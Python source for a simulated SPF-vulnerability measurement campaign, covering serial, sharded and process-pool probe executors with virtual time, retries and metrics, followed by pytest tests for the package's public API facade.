        for index, task in enumerate(tasks):
            results.append(
                self._execute(ctx, task, index, self._slot(base, index, slot), metrics)
            )
            metrics.batches += 1
            # Fire any events due inside this probe's timeslot before the
            # next probe runs — the serial tool's view of time.
            end_of_slot = self._slot(base, index + 1, slot)
            if env.router is not None:
                env.clock.advance_to(max(env.clock.now, end_of_slot))
            else:
                env.clock.advance_seconds(env.seconds_per_probe)
        metrics.wall_seconds = time.perf_counter() - started
        metrics.sim_seconds = (env.clock.now - base).total_seconds()
        self._end_stage_obs(obs, metrics)
        return results


class ShardedExecutor(ProbeExecutor):
    """A worker pool over a sharded work list, batching clock advances.

    Tasks are assigned round-robin to ``workers`` private contexts and
    dispatched in batches of ``workers * batch_size``.  The shared clock
    advances only at event horizons (the next scheduled clock event)
    and at stage end, so a stage costs O(events) clock scans instead of
    O(tasks) — the difference is what ``benchmarks/bench_executor.py``
    measures.
    """

    name = "sharded"

    def __init__(
        self,
        env: ExecutionEnvironment,
        *,
        workers: int = 4,
        batch_size: int = 64,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        if env.router is None:
            raise SimulationError(
                "ShardedExecutor needs an environment with a ClockRouter "
                "(virtual-time protocol); build the network through one"
            )
        if workers < 1:
            raise SimulationError("ShardedExecutor needs at least one worker")
        super().__init__(env, retry=retry)
        self.workers = workers
        self.batch_size = max(1, batch_size)

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        env = self.env
        metrics = self.metrics.begin_stage(stage, workers=self.workers)
        metrics.tasks = len(tasks)
        obs = self._begin_stage_obs(stage, tasks)
        started = time.perf_counter()
        base = env.clock.now
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        count = len(tasks)
        stage_end = self._slot(base, count, slot)
        pool = [WorkerContext(env, w) for w in range(self.workers)]
        results: List[Optional[DetectionResult]] = [None] * count

        execute = self._execute
        nworkers = self.workers
        span = nworkers * self.batch_size
        index = 0
        while index < count:
            horizon = env.clock.next_scheduled(until=stage_end)
            limit = count if horizon is None else min(
                count, _slots_before(horizon, base, slot)
            )
            # Timeslots advance incrementally: timedelta arithmetic is
            # exact (integer microseconds), so base + k*slot == this sum.
            virtual = self._slot(base, index, slot)
            while index < limit:
                batch_end = min(limit, index + span)
                for k in range(index, batch_end):
                    results[k] = execute(
                        pool[k % nworkers], tasks[k], k, virtual, metrics
                    )
                    virtual += slot
                metrics.batches += 1
                index = batch_end
            if horizon is not None:
                # Every pre-horizon task has run; fire the event(s).
                env.clock.advance_to(max(env.clock.now, horizon))
        env.clock.advance_to(max(env.clock.now, stage_end))
        metrics.wall_seconds = time.perf_counter() - started
        metrics.sim_seconds = (env.clock.now - base).total_seconds()
        self._end_stage_obs(obs, metrics)
        return results  # type: ignore[return-value]


class ProcessShardedExecutor(ProbeExecutor):
    """Shard-local world replicas under a process pool.

    The work list is partitioned by ``shard_of(task.ip)`` — a stable
    hash, so every address's mutable server state (greylist memory,
    blacklist counters, crash noise) lives in exactly one shard for the
    whole campaign.  Each shard runs in its own single-worker
    ``ProcessPoolExecutor`` (one long-lived world replica per process);
    the parent ships only values down (a :class:`~repro.api.RunConfig`
    plus the event stream) and merges only values back up.

    Merge order is fixed — shard results land by ascending work-list
    index — and every merged artifact is order-insensitive or exact
    (counter sums, sorted histograms, trace keys carrying the parent's
    stage ordinal and task index), so traces, campaign results, and CSVs
    are byte-identical to a serial run of the same seed.

    If a worker process dies mid-campaign, its shard degrades gracefully
    instead of aborting: the parent rebuilds that shard's world in-process,
    silently replays the recorded event history to catch up, and runs the
    current and all future stages for that shard itself.  The failure is
    visible in the ``exec.shard_failures`` counter, the log, and the
    ``--progress`` stream.
    """

    name = "process"

    def __init__(
        self,
        env: ExecutionEnvironment,
        *,
        world,
        workers: int = 4,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        if env.router is None:
            raise SimulationError(
                "ProcessShardedExecutor needs an environment with a "
                "ClockRouter (virtual-time protocol); build the network "
                "through one"
            )
        if workers < 1:
            raise SimulationError("ProcessShardedExecutor needs at least one worker")
        super().__init__(env, retry=retry)
        self.workers = workers
        #: the rebuildable spec shipped to children, pinned to this
        #: executor's retry policy so parent and replica label strides match.
        self.world = _dc_replace(world, retry=self.retry)
        #: the full world-event history (stage assignments + notifications),
        #: replayed from scratch when a shard falls back in-process.
        self._history: List[object] = []
        self._pools: Dict[int, ProcessPoolExecutor] = {}
        #: per-shard high-water mark into ``_history`` already shipped.
        self._sent: Dict[int, int] = {}
        self._broken: Set[int] = set()
        #: in-process replacement worlds for broken shards.
        self._fallback: Dict[int, object] = {}
        self._fallback_sent: Dict[int, int] = {}
        self._stages_run = 0
        #: event-shipping volume telemetry, gathered only when the run is
        #: profiled (measuring costs an extra pickle of each payload).
        self._ship_counting = bool(getattr(self.world, "perf", None))
        self.ship_payload_bytes = 0
        self.ship_result_bytes = 0
        self.ship_events = 0

    # -- world-event plumbing --------------------------------------------------

    def record_notification(
        self, domains: Sequence[str], when: _dt.datetime
    ) -> None:
        from .shardworld import NotifyEvent

        self._history.append(NotifyEvent(tuple(domains), when))

    def _pool(self, shard: int) -> ProcessPoolExecutor:
        pool = self._pools.get(shard)
        if pool is None:
            from .shardworld import _child_init

            # The world spec crosses the process boundary once, at worker
            # start; per-stage submissions then carry only event deltas.
            pool = ProcessPoolExecutor(
                max_workers=1,
                initializer=_child_init,
                initargs=(self.world, shard, self.workers),
            )
            self._pools[shard] = pool
        return pool

    def _pending(self, shard: int, sent: Dict[int, int]) -> List[object]:
        events = [e.for_shard(shard) for e in self._history[sent.get(shard, 0):]]
        sent[shard] = len(self._history)
        return events

    def _note_shard_failure(self, shard: int, obs, error: object) -> None:
        if shard in self._broken:
            return
        self._broken.add(shard)
        pool = self._pools.pop(shard, None)
        if pool is not None:
            pool.shutdown(wait=False, cancel_futures=True)
        _log.warning(
            "shard %d worker process died (%s); re-running that shard "
            "in-process for the rest of the campaign",
            shard, error,
        )
        if obs is not None:
            obs.metrics.counter("exec.shard_failures").inc(f"shard{shard}")
        if self.progress is not None:
            self.progress.stream.write(
                f"shard {shard} worker died; re-running in-process\n"
            )
            self.progress.stream.flush()

    def _run_fallback(self, shard: int):
        """Run the shard's pending events in-process (degraded mode)."""
        from .shardworld import ShardWorld

        world = self._fallback.get(shard)
        if world is None:
            # The dead child may have left (or still own) this shard's
            # perf stream; the in-process replacement writes its own.
            world = ShardWorld(
                self.world, shard, self.workers, perf_role=f"shard{shard}f"
            )
            self._fallback[shard] = world
        return world.apply(self._pending(shard, self._fallback_sent))

    def shutdown(self) -> None:
        for pool in self._pools.values():
            pool.shutdown(wait=True, cancel_futures=True)
        self._pools.clear()

    def perf_counters(self) -> Dict[str, int]:
        """Event-shipping volume (repro.obs.perf counter surface).

        All zeros unless the run carries a perf directory — measuring the
        volume costs an extra pickle of every payload, so it only happens
        when someone is profiling.
        """
        return {
            "exec.ship_payload_bytes": self.ship_payload_bytes,
            "exec.ship_result_bytes": self.ship_result_bytes,
            "exec.ship_events": self.ship_events,
        }

    def kill_shard(self, shard: int) -> bool:
        """Fault injection: hard-kill a shard's worker (tests and drills).

        Returns ``False`` when the shard has no live pool (never started,
        or already broken).  The death is discovered — and degraded-mode
        recovery engaged — on the next :meth:`run_stage` dispatch, exactly
        as an organic crash would be.
        """
        from .shardworld import _exit_child

        pool = self._pools.get(shard)
        if pool is None:
            return False
        try:
            pool.submit(_exit_child).result()
        except BrokenExecutor:
            pass  # expected: the pool just noticed the death
        except OSError:
            pass
        return True

    # -- stage execution -------------------------------------------------------

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        from .shardworld import StageAssignment, _child_events, shard_of

        env = self.env
        metrics = self.metrics.begin_stage(stage, workers=self.workers)
        metrics.tasks = len(tasks)
        obs = self._begin_stage_obs(stage, tasks)
        tracing = obs is not None and obs.tracer.enabled
        started = time.perf_counter()
        base = env.clock.now
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        count = len(tasks)
        suite = tasks[0].suite if tasks else ""
        ordinal = obs.tracer.open_stage_ordinal() if tracing else self._stages_run
        self._stages_run += 1

        assigned: Dict[int, List[Tuple[int, ProbeTask]]] = {}
        for index, task in enumerate(tasks):
            assigned.setdefault(shard_of(task.ip, self.workers), []).append(
                (index, task)
            )
        self._history.append(
            StageAssignment(
                ordinal=ordinal, stage=stage, suite=suite, base=base,
                count=count, trace=tracing, assigned=assigned,
            )
        )

        futures: Dict[int, Future] = {}
        for shard in range(self.workers):
            if shard in self._broken:
                continue
            payload = self._pending(shard, self._sent)
            if self._ship_counting:
                self.ship_payload_bytes += len(pickle.dumps(payload))
            try:
                futures[shard] = self._pool(shard).submit(_child_events, payload)
            except BrokenExecutor as error:
                self._note_shard_failure(shard, obs, error)
        # Catch up broken shards in-process while healthy workers run.
        shard_results: Dict[int, object] = {}
        for shard in range(self.workers):
            if shard in self._broken and shard not in futures:
                shard_results[shard] = self._run_fallback(shard)
        for shard in sorted(futures):
            try:
                shard_results[shard] = futures[shard].result()
                if self._ship_counting:
                    sres = shard_results[shard]
                    self.ship_result_bytes += len(pickle.dumps(sres))
                    self.ship_events += sum(
                        len(out.events) for out in sres.outputs
                    )
            except (BrokenExecutor, OSError, EOFError) as error:
                self._note_shard_failure(shard, obs, error)
                shard_results[shard] = self._run_fallback(shard)

        results = self._merge(shard_results, metrics, obs, suite, count)
        metrics.batches += len(shard_results)
        if self._ship_counting:
            for world in self._fallback.values():
                perf = getattr(world, "perf", None)
                if perf is not None:
                    perf.flush(with_sample=True)
        env.clock.advance_to(max(env.clock.now, self._slot(base, count, slot)))
        metrics.wall_seconds = time.perf_counter() - started
        metrics.sim_seconds = (env.clock.now - base).total_seconds()
        self._end_stage_obs(obs, metrics)
        return results

    def _merge(
        self,
        shard_results: Dict[int, object],
        metrics: StageMetrics,
        obs,
        suite: str,
        count: int,
    ) -> List[DetectionResult]:
        """Fold shard results back into the parent, in work-list order."""
        env = self.env
        outputs = []
        for shard in sorted(shard_results):
            sres = shard_results[shard]
            metrics.probes_attempted += sres.probes_attempted
            metrics.retried += sres.retried
            metrics.refused += sres.refused
            metrics.queries_observed += sres.queries_observed
            env.network.connection_attempts += sres.connection_attempts
            env.network.connections_established += sres.connections_established
            env.ethics.connections_opened += sres.connections_opened
            env.ethics.peak_concurrency = max(
                env.ethics.peak_concurrency, sres.peak_concurrency
            )
            if obs is not None:
                obs.metrics.merge(sres.metrics)
            outputs.extend(sres.outputs)
        outputs.sort(key=lambda out: out.index)

        if suite and count:
            # One watermark reservation covering every task's id block,
            # so sequential allocation in this suite continues above it
            # exactly as after a single-process stage.
            env.labels.reserve_block(suite, 0, count * self._stride)
        results: List[Optional[DetectionResult]] = [None] * count
        log = env.responder.log
        tracer = obs.tracer if obs is not None else None
        for out in outputs:
            if results[out.index] is not None:
                raise SimulationError(
                    f"work-list index {out.index} merged from two shards"
                )
            results[out.index] = out.result
            log.ingest(out.queries)
            if tracer is not None and tracer.enabled:
                tracer.ingest(out.events)
            for test_id in out.result.test_ids:
                env.labels.bind(suite, test_id, out.result.ip)
        missing = [i for i, r in enumerate(results) if r is None]
        if missing:
            raise SimulationError(
                f"shard merge lost {len(missing)} task(s), first {missing[:5]}"
            )
        return results  # type: ignore[return-value]


def _slots_before(
    instant: _dt.datetime, base: _dt.datetime, slot: _dt.timedelta
) -> int:
    """How many task slots start strictly before ``instant``.

    Exact timedelta arithmetic (ceil division), so the sharded partition
    matches the serial executor's "event fires at end-of-slot" rule.
    """
    delta = instant - base
    if delta <= _dt.timedelta(0):
        return 0
    return -((-delta) // slot)


ExecutorSpec = Union[str, ProbeExecutor, Callable[[ExecutionEnvironment], ProbeExecutor]]


def make_executor(
    spec: Optional[ExecutorSpec],
    env: ExecutionEnvironment,
    *,
    workers: int = 1,
    retry: Optional[RetryPolicy] = None,
    world=None,
) -> ProbeExecutor:
    """Resolve an executor from a name, instance, factory, or default.

    ``None`` picks :class:`ShardedExecutor` when ``workers > 1`` (and the
    environment supports it), else :class:`SerialExecutor`.  The
    ``"process"`` strategy additionally needs ``world`` — a
    :class:`~repro.api.RunConfig` from which child processes
    rebuild their shard of the network — so it is only reachable through
    hosts that can describe their world by value (the campaign via
    :meth:`repro.simulation.Simulation.build`); scanner-style
    environments wrapping pre-built state cannot be re-created in a
    child and get a clear error instead.
    """
    if isinstance(spec, ProbeExecutor):
        return spec
    if callable(spec):
        return spec(env)
    if spec is None:
        spec = "sharded" if workers > 1 and env.router is not None else "serial"
    if spec == "serial":
        return SerialExecutor(env, retry=retry)
    if spec == "sharded":
        return ShardedExecutor(env, workers=max(workers, 1), retry=retry)
    if spec == "process":
        if world is None:
            raise SimulationError(
                "the process executor rebuilds shard worlds from a seeded "
                "RunConfig, which this host did not provide; construct it "
                "through Simulation.build(executor='process') (scanner "
                "environments cannot cross a process boundary)"
            )
        return ProcessShardedExecutor(
            env, world=world, workers=max(workers, 1), retry=retry
        )
    raise SimulationError(
        f"unknown executor {spec!r} (serial | sharded | process)"
    )
