"""Pluggable probe-execution strategies.

Both executors run every :class:`~repro.exec.task.ProbeTask` of a stage
at the same simulated instant — task ``k`` starts at
``stage_base + k * seconds_per_probe`` — and differ only in how the
*shared* clock (which fires scheduled events: patches, MX migrations,
blacklist flips) is driven forward:

- :class:`SerialExecutor` advances it after every task, the way the
  one-at-a-time paper tool experienced time;
- :class:`ShardedExecutor` computes the next *event horizon*, dispatches
  every task whose timeslot precedes it across the worker pool in
  batches, and advances the clock once per horizon.

An event scheduled at instant ``E`` therefore partitions the work list
identically under both strategies (tasks with slots before ``E`` probe
the pre-event world), which is what makes campaign results byte-identical
between them — the property ``tests/exec`` asserts at scale 0.02.
"""

from __future__ import annotations

import datetime as _dt
import logging
import time
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence, Union

from ..clock import SimulatedClock
from ..obs import context as _obs
from ..obs.progress import ProgressReporter
from ..core.detector import (
    DetectionOutcome,
    DetectionResult,
    VulnerabilityDetector,
)
from ..core.ethics import EthicsControls
from ..core.labels import LabelAllocator, LabelBlock
from ..dns.server import SpfTestResponder
from ..errors import SimulationError
from ..smtp.client import SmtpClient, TransactionStatus
from ..smtp.protocol import ReplyCode
from ..smtp.transport import Network
from .metrics import ExecutorMetrics, StageMetrics
from .task import ProbeTask
from .virtualclock import ClockRouter, VirtualClock

_log = logging.getLogger(__name__)


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded retry with exponential backoff for transient SMTP failures.

    A probe whose dialogue broke on a transient condition — a 421
    service-not-available reply, or greylist deferrals that outlasted the
    detector's own 8-minute waits — is re-driven from scratch after
    ``backoff_seconds * backoff_factor**attempt`` of (virtual) time, at
    most ``max_retries`` times.  The default is no retries: the paper's
    methodology took a broken dialogue as SMTP-Failed for the round.
    """

    max_retries: int = 0
    backoff_seconds: float = 60.0
    backoff_factor: float = 2.0

    def delay(self, attempt: int) -> float:
        """Backoff before retry number ``attempt + 1`` (0-based)."""
        return self.backoff_seconds * (self.backoff_factor ** attempt)


def transient_failure(result: DetectionResult) -> bool:
    """True if a failed detection looks retryable (421 / greylisting)."""
    if result.outcome != DetectionOutcome.SMTP_FAILED:
        return False
    for transaction in result.transactions:
        if transaction.status == TransactionStatus.GREYLISTED:
            return True
        if any(
            reply.code == ReplyCode.SERVICE_UNAVAILABLE
            for reply in transaction.replies
        ):
            return True
    return False


@dataclass
class ExecutionEnvironment:
    """Everything an executor needs from its host (campaign or scanner).

    ``router`` enables the virtual-time protocol; when it is ``None``
    (e.g. the scanner was handed a network it cannot re-clock), probes
    read and advance the shared clock directly and only the serial
    strategy is available.
    """

    clock: SimulatedClock
    network: Network
    responder: SpfTestResponder
    labels: LabelAllocator
    ethics: EthicsControls
    client_ip: str = "198.51.100.7"
    seconds_per_probe: float = 0.25
    router: Optional[ClockRouter] = None
    detector_kwargs: Dict[str, object] = field(default_factory=dict)


class WorkerLabels:
    """A per-worker :class:`LabelAllocator` facade.

    Ids are drawn from the current task's reserved block, so the labels a
    task uses depend only on its position in the work list — never on
    which worker ran it or in what order.
    """

    def __init__(self, parent: LabelAllocator) -> None:
        self.parent = parent
        self._block: Optional[LabelBlock] = None

    @property
    def base(self):
        return self.parent.base

    def begin_task(self, block: LabelBlock) -> None:
        self._block = block

    def new_id(self, suite: str, target_ip: str) -> str:
        block = self._block
        if block is None or block.suite != suite:
            raise SimulationError(
                f"no label block reserved for suite {suite!r} on this worker"
            )
        return block.new_id(target_ip)

    def ip_for(self, suite: str, test_id: str) -> Optional[str]:
        return self.parent.ip_for(suite, test_id)

    def mail_from_domain(self, suite: str, test_id: str) -> str:
        return self.parent.mail_from_domain(suite, test_id)


class WorkerContext:
    """One worker's private detection context.

    Each worker owns its SMTP client, its detector, its virtual clock,
    and its label facade; all evidence still lands in the shared query
    log, ethics ledger, and label registry.
    """

    def __init__(self, env: ExecutionEnvironment, worker_id: int) -> None:
        self.worker_id = worker_id
        self.env = env
        self.vclock = VirtualClock(env.clock.now)
        self.labels = WorkerLabels(env.labels)
        self.client = SmtpClient(env.network, client_ip=env.client_ip)
        if env.router is not None:
            wait: Callable[[float], None] = self.vclock.advance_seconds
            now = lambda: self.vclock.now
        else:
            wait = env.clock.advance_seconds
            now = lambda: env.clock.now
        self.detector = VulnerabilityDetector(
            self.client,
            env.responder,
            self.labels,
            ethics=env.ethics,
            wait=wait,
            now=now,
            **env.detector_kwargs,
        )


class ProbeExecutor:
    """Base strategy: per-task execution, retry, and metrics plumbing."""

    name = "abstract"

    def __init__(
        self,
        env: ExecutionEnvironment,
        *,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        self.env = env
        self.retry = retry or RetryPolicy()
        self.metrics = ExecutorMetrics()
        #: optional live stderr reporter (``--progress``); operator-facing
        #: only — it never writes into the trace or the metrics registry.
        self.progress: Optional[ProgressReporter] = None
        #: each detect() drives at most two probe methods; each attempt
        #: (original + retries) therefore needs at most two id labels.
        self._stride = 2 * (1 + self.retry.max_retries)

    # -- public API -----------------------------------------------------------

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        """Execute one stage's work list; results align with ``tasks``."""
        raise NotImplementedError

    # -- shared machinery ------------------------------------------------------

    def _slot(self, base: _dt.datetime, index: int, slot: _dt.timedelta) -> _dt.datetime:
        return base + index * slot

    def _begin_stage_obs(self, stage: str, tasks: Sequence[ProbeTask]):
        """Open a trace stage scope; returns the active observation."""
        if self.progress is not None:
            self.progress.begin_stage(stage, len(tasks))
        obs = _obs.ACTIVE
        if obs is not None and obs.tracer.enabled:
            obs.tracer.begin_stage(stage, tasks=len(tasks))
        return obs

    def _end_stage_obs(self, obs, metrics: StageMetrics) -> None:
        """Close the stage scope and publish stage counters.

        Trace attributes are limited to simulation-derived values (task
        and probe counts, simulated seconds): wall time, worker counts,
        and batch counts differ between executors and are banned from
        the trace — they go to the metrics registry instead.
        """
        if self.progress is not None:
            self.progress.end_stage(metrics)
        if obs is None:
            return
        m = obs.metrics
        m.counter("exec.stages").inc(self.name)
        m.counter("exec.probes").inc(amount=metrics.probes_attempted)
        m.counter("exec.refused").inc(amount=metrics.refused)
        m.counter("exec.batches").inc(amount=metrics.batches)
        m.histogram("exec.stage_wall_seconds").observe(metrics.wall_seconds)
        m.histogram("exec.stage_probes_per_second").observe(metrics.probes_per_second)
        if obs.tracer.enabled:
            obs.tracer.end_stage(
                probes=metrics.probes_attempted,
                retried=metrics.retried,
                refused=metrics.refused,
                queries=metrics.queries_observed,
                sim_seconds=metrics.sim_seconds,
            )
        if _log.isEnabledFor(logging.INFO):
            _log.info(
                "stage %s: %d tasks, %d probes (%d retried, %d refused), "
                "%d DNS queries over %.0f simulated seconds",
                metrics.stage, metrics.tasks, metrics.probes_attempted,
                metrics.retried, metrics.refused, metrics.queries_observed,
                metrics.sim_seconds,
            )

    def _execute(
        self,
        ctx: WorkerContext,
        task: ProbeTask,
        index: int,
        virtual_start: _dt.datetime,
        metrics: StageMetrics,
    ) -> DetectionResult:
        env = self.env
        block = env.labels.reserve_block(
            task.suite, index * self._stride, self._stride
        )
        ctx.labels.begin_task(block)
        obs = _obs.ACTIVE
        tracing = obs is not None and obs.tracer.enabled
        if tracing:
            obs.tracer.begin_task(
                index,
                f"{task.suite}/{task.ip}",
                vt=virtual_start,
                ip=task.ip,
                suite=task.suite,
                preferred_method=(
                    task.preferred_method.value if task.preferred_method else None
                ),
            )
        if env.router is not None:
            ctx.vclock.reset(virtual_start)
            env.router.push(ctx.vclock)
        try:
            result = self._detect_with_retry(ctx, task, metrics)
            if obs is not None:
                # Still inside the task's virtual timeslot: stamp the end
                # event with the task clock, not the shared one.
                end_vt = ctx.vclock.now if env.router is not None else env.clock.now
                self._observe_task(obs, tracing, result, end_vt)
            if self.progress is not None:
                self.progress.task_done(metrics)
            return result
        except BaseException:
            if tracing:
                obs.tracer.drop_task()
            raise
        finally:
            if env.router is not None:
                env.router.pop()

    def _observe_task(self, obs, tracing: bool, result, end_vt: _dt.datetime) -> None:
        """Per-task metrics and the ``task.end`` trace event."""
        obs.metrics.counter("exec.outcomes").inc(result.outcome.value)
        obs.metrics.histogram("dns.queries_per_probe").observe(result.queries_observed)
        if tracing:
            obs.tracer.end_task(
                vt=end_vt,
                outcome=result.outcome.value,
                queries=result.queries_observed,
                method=(
                    result.successful_method.value
                    if result.successful_method is not None
                    else None
                ),
                behaviors=sorted(b.value for b in result.behaviors),
            )

    def _detect_with_retry(
        self, ctx: WorkerContext, task: ProbeTask, metrics: StageMetrics
    ) -> DetectionResult:
        attempt = 0
        while True:
            result = ctx.detector.detect(
                task.ip,
                task.suite,
                preferred_method=task.preferred_method,
                recipient_domain=task.recipient_domain,
            )
            metrics.probes_attempted += 1
            metrics.queries_observed += result.queries_observed
            if result.outcome == DetectionOutcome.REFUSED:
                metrics.refused += 1
            if attempt >= self.retry.max_retries or not transient_failure(result):
                return result
            metrics.retried += 1
            backoff = self.retry.delay(attempt)
            obs = _obs.ACTIVE
            if obs is not None:
                obs.metrics.counter("exec.retries").inc()
                obs.metrics.histogram("exec.backoff_seconds").observe(backoff)
                if obs.tracer.enabled:
                    obs.tracer.event(
                        "task.retry", attempt=attempt, backoff_seconds=backoff
                    )
            attempt += 1
            if self.env.router is not None:
                ctx.vclock.advance_seconds(backoff)
            else:
                self.env.clock.advance_seconds(backoff)


class SerialExecutor(ProbeExecutor):
    """One probe at a time, advancing the shared clock after each."""

    name = "serial"

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        env = self.env
        metrics = self.metrics.begin_stage(stage, workers=1)
        metrics.tasks = len(tasks)
        obs = self._begin_stage_obs(stage, tasks)
        started = time.perf_counter()
        base = env.clock.now
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        ctx = WorkerContext(env, 0)
        results: List[DetectionResult] = []
        for index, task in enumerate(tasks):
            results.append(
                self._execute(ctx, task, index, self._slot(base, index, slot), metrics)
            )
            metrics.batches += 1
            # Fire any events due inside this probe's timeslot before the
            # next probe runs — the serial tool's view of time.
            end_of_slot = self._slot(base, index + 1, slot)
            if env.router is not None:
                env.clock.advance_to(max(env.clock.now, end_of_slot))
            else:
                env.clock.advance_seconds(env.seconds_per_probe)
        metrics.wall_seconds = time.perf_counter() - started
        metrics.sim_seconds = (env.clock.now - base).total_seconds()
        self._end_stage_obs(obs, metrics)
        return results


class ShardedExecutor(ProbeExecutor):
    """A worker pool over a sharded work list, batching clock advances.

    Tasks are assigned round-robin to ``workers`` private contexts and
    dispatched in batches of ``workers * batch_size``.  The shared clock
    advances only at event horizons (the next scheduled patch/move/flip)
    and at stage end, so a stage costs O(events) clock scans instead of
    O(tasks) — the difference is what ``benchmarks/bench_executor.py``
    measures.
    """

    name = "sharded"

    def __init__(
        self,
        env: ExecutionEnvironment,
        *,
        workers: int = 4,
        batch_size: int = 64,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        if env.router is None:
            raise SimulationError(
                "ShardedExecutor needs an environment with a ClockRouter "
                "(virtual-time protocol); build the network through one"
            )
        if workers < 1:
            raise SimulationError("ShardedExecutor needs at least one worker")
        super().__init__(env, retry=retry)
        self.workers = workers
        self.batch_size = max(1, batch_size)

    def run_stage(
        self, stage: str, tasks: Sequence[ProbeTask]
    ) -> List[DetectionResult]:
        env = self.env
        metrics = self.metrics.begin_stage(stage, workers=self.workers)
        metrics.tasks = len(tasks)
        obs = self._begin_stage_obs(stage, tasks)
        started = time.perf_counter()
        base = env.clock.now
        slot = _dt.timedelta(seconds=env.seconds_per_probe)
        count = len(tasks)
        stage_end = self._slot(base, count, slot)
        pool = [WorkerContext(env, w) for w in range(self.workers)]
        results: List[Optional[DetectionResult]] = [None] * count

        execute = self._execute
        nworkers = self.workers
        span = nworkers * self.batch_size
        index = 0
        while index < count:
            horizon = env.clock.next_scheduled(until=stage_end)
            limit = count if horizon is None else min(
                count, _slots_before(horizon, base, slot)
            )
            # Timeslots advance incrementally: timedelta arithmetic is
            # exact (integer microseconds), so base + k*slot == this sum.
            virtual = self._slot(base, index, slot)
            while index < limit:
                batch_end = min(limit, index + span)
                for k in range(index, batch_end):
                    results[k] = execute(
                        pool[k % nworkers], tasks[k], k, virtual, metrics
                    )
                    virtual += slot
                metrics.batches += 1
                index = batch_end
            if horizon is not None:
                # Every pre-horizon task has run; fire the event(s).
                env.clock.advance_to(max(env.clock.now, horizon))
        env.clock.advance_to(max(env.clock.now, stage_end))
        metrics.wall_seconds = time.perf_counter() - started
        metrics.sim_seconds = (env.clock.now - base).total_seconds()
        self._end_stage_obs(obs, metrics)
        return results  # type: ignore[return-value]


def _slots_before(
    instant: _dt.datetime, base: _dt.datetime, slot: _dt.timedelta
) -> int:
    """How many task slots start strictly before ``instant``.

    Exact timedelta arithmetic (ceil division), so the sharded partition
    matches the serial executor's "event fires at end-of-slot" rule.
    """
    delta = instant - base
    if delta <= _dt.timedelta(0):
        return 0
    return -((-delta) // slot)


ExecutorSpec = Union[str, ProbeExecutor, Callable[[ExecutionEnvironment], ProbeExecutor]]


def make_executor(
    spec: Optional[ExecutorSpec],
    env: ExecutionEnvironment,
    *,
    workers: int = 1,
    retry: Optional[RetryPolicy] = None,
) -> ProbeExecutor:
    """Resolve an executor from a name, instance, factory, or default.

    ``None`` picks :class:`ShardedExecutor` when ``workers > 1`` (and the
    environment supports it), else :class:`SerialExecutor`.
    """
    if isinstance(spec, ProbeExecutor):
        return spec
    if callable(spec):
        return spec(env)
    if spec is None:
        spec = "sharded" if workers > 1 and env.router is not None else "serial"
    if spec == "serial":
        return SerialExecutor(env, retry=retry)
    if spec == "sharded":
        return ShardedExecutor(env, workers=max(workers, 1), retry=retry)
    raise SimulationError(f"unknown executor {spec!r} (serial | sharded)")
