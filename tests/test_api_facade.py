"""The public facade: ``repro.api`` as the single entry point.

``open_run``/``run``/``resume`` plus :class:`RunHandle` are the surface
the CLI, the serve daemon, and embedding callers all share; these tests
pin the contract — handle lifecycle, probe schemas round-tripping
through JSON, census/patch queries, and resume-through-the-facade.
"""

from __future__ import annotations

import pytest

from repro import api
from repro.errors import SimulationError

SCALE = 0.002
SEED = 5


@pytest.fixture(scope="module")
def handle():
    h = api.open_run(api.RunConfig(scale=SCALE, seed=SEED))
    yield h
    h.close()


@pytest.fixture(scope="module")
def first_domain(handle):
    return handle.simulation.population.table.name_at(0)


class TestOpenRun:
    def test_status_snapshot(self, handle):
        status = handle.status()
        assert status["domains"] == len(handle.simulation.population)
        assert status["initial_complete"] in (False, True)
        assert status["config_hash"] == handle.config.content_hash()
        assert status["rounds_total"] > 0

    def test_default_config(self):
        h = api.open_run()
        try:
            assert h.config == api.RunConfig()
        finally:
            h.close()

    def test_context_manager_closes(self):
        with api.open_run(api.RunConfig(scale=SCALE, seed=SEED)) as h:
            assert h.simulation is not None


class TestProbeSchemas:
    def test_probe_request_roundtrip(self):
        request = api.ProbeRequest(kind="probe_domain", target="example.org")
        data = request.to_dict()
        assert data["v"] == api.SCHEMA_VERSION
        assert api.ProbeRequest.from_dict(data) == request

    def test_probe_request_rejects_unknown_kind(self):
        with pytest.raises(SimulationError, match="kind"):
            api.ProbeRequest(kind="scan_the_planet", target="example.org")

    def test_probe_request_rejects_empty_target(self):
        with pytest.raises(SimulationError, match="target"):
            api.ProbeRequest(kind="check_mta", target="")

    def test_version_mismatch_rejected(self):
        request = api.ProbeRequest(kind="probe_domain", target="example.org")
        data = request.to_dict()
        data["v"] = api.SCHEMA_VERSION + 1
        with pytest.raises(SimulationError, match="version"):
            api.ProbeRequest.from_dict(data)


class TestProbes:
    def test_probe_domain_result_roundtrip(self, handle, first_domain):
        result = handle.probe_domain(first_domain)
        assert result.kind == "probe_domain"
        assert result.target == first_domain
        assert result.ips  # the first domain resolves to something
        data = result.to_dict()
        assert api.ProbeResult.from_dict(data) == result
        for ip in result.ips:
            assert ip.suite  # detection ran and allocated labels

    def test_probe_dispatch_matches_direct_call(self, handle, first_domain):
        request = api.ProbeRequest(kind="probe_domain", target=first_domain)
        via_dispatch = handle.probe(request)
        direct = handle.probe_domain(first_domain)
        # Suites are freshly allocated per probe; everything semantic
        # (status, per-ip verdicts) must agree.
        assert via_dispatch.status == direct.status
        assert via_dispatch.target == direct.target
        assert [
            (ip.ip, ip.outcome, ip.vulnerable) for ip in via_dispatch.ips
        ] == [(ip.ip, ip.outcome, ip.vulnerable) for ip in direct.ips]

    def test_probe_is_repeatable(self, handle, first_domain):
        """Re-probing the same target gives the same verdict (world is
        deterministic; only labels/clock advance between probes)."""
        first = handle.probe_domain(first_domain)
        second = handle.probe_domain(first_domain)
        assert first.status == second.status
